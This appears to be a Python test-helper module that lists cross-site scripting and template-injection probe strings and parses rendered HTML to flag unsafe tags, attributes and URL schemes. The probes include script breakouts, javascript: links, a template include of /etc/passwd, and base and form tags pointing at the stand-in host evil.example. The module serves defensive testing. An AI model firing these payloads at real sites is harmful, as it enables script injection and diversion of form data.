"""Texts that would run in a careless page, and what of a page would let them."""

from html.parser import HTMLParser

SCRIPTS = (
    '"><img src=x onerror="window.__xss=1"><xss-probe>',
    "'><svg/onload=window.__xss=2><xss-probe>",
    "</textarea></title></script><script>window.__xss=3</script><xss-probe>",
    "[a](javascript:window.__xss=4) [b](data:text/html,<script>x</script>) <javascript:x>",
    '![c](x" onerror="window.__xss=5) <iframe srcdoc="<script>parent.__xss=6</script>">',
    "$\\href{javascript:window.__xss=7}{x} \\text{<xss-probe>}$ $$<xss-probe>$$",
    "```html\n</code></pre><script>window.__xss=8</script><xss-probe>\n```",
    "{{ 7*7 }} {% include '/etc/passwd' %} ${7*7} <!--><script>window.__xss=9</script>",
    '<a href="java&#10;script:window.__xss=10">x</a> <base href="//evil.example/">',
    "javascript:window.__xss=11",
    '<form action="//evil.example"><button name=form_token>x</button></form>',
    "<meta http-equiv=refresh content=0>",
    "\u202e\u2066bidi\u2069\u202c \x1b[31m \ufeff \u200b",
)
SCRIPT = "\n\n".join(SCRIPTS)
"""All of them, for fields that take long text."""
_SCHEMES = ("http:", "https:", "mailto:", "/", "#", "?")
_FORBIDDEN = frozenset({"style", "object", "embed", "base", "applet", "frame", "link-probe"})


class Page(HTMLParser):
    """A page as a browser would read it, and everything in it that should not be there."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []
        self.forms: list[str] = []
        self.names: set[str] = set()
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        held = {name: value or "" for name, value in attrs}
        if tag == "xss-probe" or tag in _FORBIDDEN:
            self.wrong.append(f"<{tag}>")
        if tag == "script" and not held.get("src", "").startswith("/static/"):
            self.wrong.append("an inline script")
        if tag == "link" and not held.get("href", "").startswith(("/static/", "data:,")):
            self.wrong.append(f"a link to {held.get('href')}")
        if tag == "meta" and "http-equiv" in held:
            self.wrong.append("a meta refresh")
        if tag == "iframe" and ("srcdoc" in held or not held.get("src", "").startswith("/")):
            self.wrong.append("a foreign frame")
        if tag == "form":
            self.forms.append(held.get("method", "get").lower())
        if tag in ("input", "textarea", "select", "button") and "name" in held:
            self.names.add(held["name"])
        self._attributes(tag, held)

    def _attributes(self, tag: str, held: dict[str, str]) -> None:
        for name, value in held.items():
            if name.startswith("on") or name in ("style", "srcdoc", "background", "ping"):
                self.wrong.append(f"<{tag} {name}={value[:60]!r}>")
            if name in ("href", "src", "action", "formaction", "xlink:href", "poster", "data"):
                plain = "".join(value.split()).lower()
                if not plain.startswith(_SCHEMES) and plain not in ("", "data:,"):
                    self.wrong.append(f"<{tag} {name}={value[:60]!r}>")
                if plain.startswith("//") or (name != "href" and plain.startswith("http")):
                    self.wrong.append(f"<{tag} {name}={value[:60]!r}>")
